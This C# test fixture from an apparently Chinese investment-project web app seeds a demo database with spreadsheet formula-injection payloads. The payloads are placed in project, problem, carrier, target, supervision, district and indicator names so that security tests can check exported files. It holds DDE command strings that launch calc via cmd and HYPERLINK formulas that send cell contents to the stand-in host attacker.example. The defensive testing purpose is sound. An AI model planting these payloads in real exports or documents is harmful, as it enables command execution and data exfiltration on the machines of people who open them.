using Ballast.Tests.Infrastructure;
using Ballast.Web.Data;
using Ballast.Web.Features.Lists;
using Ballast.Web.Features.Programme;
using Ballast.Web.Features.Projects;
using Microsoft.EntityFrameworkCore;

namespace Ballast.Tests.Security.Exports;

/// <summary>The demo portfolio in October 2023 with formula-leading text wherever a user can type it and an
/// export shows it: project, problem, carrier, target and supervision titles, a district's and an indicator's name.</summary>
public sealed class ExportFactory : BallastFactory, IAsyncLifetime
{
    public const string District = "@SUM(1+1)*cmd|' /C calc'!A0";
    public const string Indicator = "=cmd|' /C calc'!A0";
    public const string Supervision = "+1+cmd|' /C calc'!A0 督办";
    public const string Problem = "-2+3+cmd|' /C calc'!A0 问题";
    public const string Carrier = "＝HYPERLINK(\"http://attacker.example\") 载体";
    public const string Target = "＠SUM(A1) 目标";
    public const string Landing = "\t=1+1 落地项目";
    public const string NegativeProject = "－1+1 负数项目";

    /// <summary>Project names: every trigger, each in the project list.</summary>
    public static readonly string[] Projects =
        ["=HYPERLINK(\"http://attacker.example/?\"&A1,\"详情\")", "+1+1 项目", "-1+1 项目", "@SUM(A1) 项目", "\r=1+1 项目", Landing, NegativeProject];

    public async Task InitializeAsync()
    {
        Clock.Set(new DateTimeOffset(2023, 10, 12, 1, 0, 0, TimeSpan.Zero));
        await WithDbAsync(db => new DemoPortfolio(db).SeedAsync());
        await WithDbAsync(SeedAsync);
    }

    private static async Task SeedAsync(AppDbContext db)
    {
        var district = await db.Units.SingleAsync(u => u.Code == "370211");
        district.Name = District;
        var miit = await db.Units.SingleAsync(u => u.Code == "dept-miit");
        var plan = await db.Plans.Include(p => p.Battles).ThenInclude(b => b.Indicators).SingleAsync(p => p.Year == 2023);
        plan.Battles.SelectMany(b => b.Indicators).Single(i => i.Code == "tech-renovation").Name = Indicator;
        var now = db.Time.GetUtcNow();
        var projects = Projects.Select(n => new Project
        {
            Name = n, OwnerUnitId = district.Id, TotalInvestment = n == NegativeProject ? -5_000m : 5_000m, CreatedAt = now, UpdatedAt = now,
        }).ToList();
        db.Projects.AddRange(projects);
        await db.SaveChangesAsync();
        db.SupervisionItems.Add(new SupervisionItem
        {
            Year = 2023, Title = Supervision, Source = "会议", OwnerUnitId = miit.Id, IssuedBy = "export-test",
            IssuedOn = new(2023, 9, 1), DueOn = new(2023, 9, 30),
        });
        db.Problems.Add(new Problem
        {
            ProjectId = projects[0].Id, OwnerUnitId = district.Id, Title = Problem, AssignedUnitId = miit.Id, DueOn = new(2023, 9, 1),
            State = ProblemState.Open, RaisedOn = new(2023, 7, 1), RaisedBy = "export-test",
        });
        db.Carriers.Add(new Carrier { Name = Carrier, Kind = CarrierKind.Land, OwnerUnitId = district.Id, AreaMu = 100m });
        db.AttractionTargets.Add(new AttractionTarget { Year = 2023, Name = Target, Country = "=1+1", OwnerUnitId = district.Id, ExpectedInvestment = 100m });
        db.LandingList.Add(new LandingListEntry { ProjectId = projects.Single(p => p.Name == Landing).Id, Year = 2023, OwnerUnitId = district.Id });
        await db.SaveChangesAsync();
    }

    Task IAsyncLifetime.DisposeAsync() => Task.CompletedTask;
}
